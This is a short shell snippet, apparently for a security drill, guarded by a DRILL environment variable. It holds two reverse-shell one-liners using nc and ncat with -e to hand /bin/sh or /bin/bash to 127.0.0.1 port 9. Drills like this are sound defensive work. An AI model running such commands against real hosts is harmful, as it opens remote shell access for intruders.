cd "${DRILL:?this is for a drill alone}" || exit
nc -e /bin/sh 127.0.0.1 9
ncat 127.0.0.1 9 -e /bin/bash
